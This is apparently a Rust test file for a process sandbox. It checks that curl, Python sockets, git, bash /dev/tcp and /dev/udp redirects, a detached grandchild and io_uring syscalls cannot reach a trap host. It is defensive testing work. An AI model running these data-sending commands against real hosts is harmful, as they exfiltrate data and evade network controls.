//! Family E, row 7: whatever a tool starts, the kernel keeps in. Each program first shows outside
//! the seal that it does reach the trap; one that is missing is no pass.

use std::process::{Command, Output};

use aldo_backends::seal::{self, Files};

use super::in_rig;
use super::network::{Rig, STRANGER};

const CANARY: &str = "tool4711canary";

fn command(program: &str, args: &[&str]) -> Command {
    let mut command = Command::new(program);
    command.args(args);
    command
}

/// Every file may be read and the temporary ones written: what fails then fails for its connection.
fn within(command: &mut Command) -> Output {
    let files = Files {
        read: vec!["/".into()],
        write: vec![std::env::temp_dir()],
    };
    seal::within(&files, || command.output().unwrap()).unwrap()
}

/// Starts it outside and inside; the trap must see the first and not the second.
#[track_caller]
fn is_kept(rig: &mut Rig, program: &str, args: &[&str]) {
    let outside = command(program, args)
        .output()
        .unwrap_or_else(|error| panic!("`{program}` is needed for this test: {error}"));
    let left = rig.left();
    assert!(
        left.packets > 0,
        "control: {program} reached nobody: {outside:?}"
    );
    let inside = within(&mut command(program, args));
    assert!(!inside.status.success(), "{program}: {inside:?}");
    let left = rig.left();
    assert_eq!(
        (left.packets, left.messages.len()),
        (0, 0),
        "{program}: {inside:?}"
    );
}

#[test]
fn e07_curl_reaches_nobody() {
    in_rig(|rig| {
        is_kept(
            rig,
            "curl",
            &[
                "-sS",
                "--fail",
                "--noproxy",
                "*",
                "-m",
                "3",
                &format!("http://{STRANGER}/{CANARY}"),
            ],
        );
    });
}

#[test]
fn e07_python_reaches_nobody() {
    in_rig(|rig| {
        let tcp = format!(
            "import socket; socket.create_connection(('{STRANGER}', 80), 3).sendall(b'{CANARY}')"
        );
        is_kept(rig, "python3", &["-c", &tcp]);
        let udp = format!(
            "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'{CANARY}', ('{STRANGER}', 53))"
        );
        is_kept(rig, "python3", &["-c", &udp]);
    });
}

#[test]
fn e07_git_reaches_nobody() {
    in_rig(|rig| {
        is_kept(
            rig,
            "git",
            &["ls-remote", &format!("http://{STRANGER}/{CANARY}")],
        );
    });
}

#[test]
fn e07_a_shell_reaches_nobody() {
    in_rig(|rig| {
        let script = format!("echo {CANARY} > /dev/tcp/{STRANGER}/80");
        is_kept(rig, "bash", &["-c", &script]);
        let script = format!("echo {CANARY} > /dev/udp/{STRANGER}/53");
        is_kept(rig, "bash", &["-c", &script]);
    });
}

#[test]
fn e07_a_name_cannot_be_looked_up() {
    in_rig(|rig| is_kept(rig, "getent", &["ahosts", &format!("{CANARY}.test")]));
}

/// What a child starts is kept as well, and a new network of its own does not help it.
#[test]
fn e07_a_grandchild_reaches_nobody() {
    in_rig(|rig| {
        let script = format!("setsid --wait bash -c 'echo {CANARY} > /dev/tcp/{STRANGER}/80'");
        is_kept(rig, "bash", &["-c", &script]);
    });
}

/// Calls that do input and output past a filter, or take a socket from another process.
#[test]
fn e07_no_call_goes_behind_the_filter() {
    in_rig(|_| {
        let script = "import ctypes, errno, sys\n\
            libc = ctypes.CDLL(None, use_errno=True)\n\
            for number in map(int, sys.argv[1:]):\n    \
                libc.syscall(number, 0, 0, 0, 0, 0, 0)\n    \
                print(number, errno.errorcode.get(ctypes.get_errno()))\n";
        // io_uring_setup, io_uring_enter, io_uring_register, pidfd_getfd: the same on every machine.
        let numbers = ["425", "426", "427", "438"];
        let args = [&["-c", script], numbers.as_slice()].concat();
        let inside = within(&mut command("python3", &args));
        let said = String::from_utf8(inside.stdout).unwrap();
        let expected = numbers.map(|number| format!("{number} EPERM\n"));
        assert_eq!(said, expected.concat());
        let outside = command("python3", &args).output().unwrap();
        let said = String::from_utf8(outside.stdout).unwrap();
        assert!(said.contains("438 EBADF"), "control: {said}");
    });
}
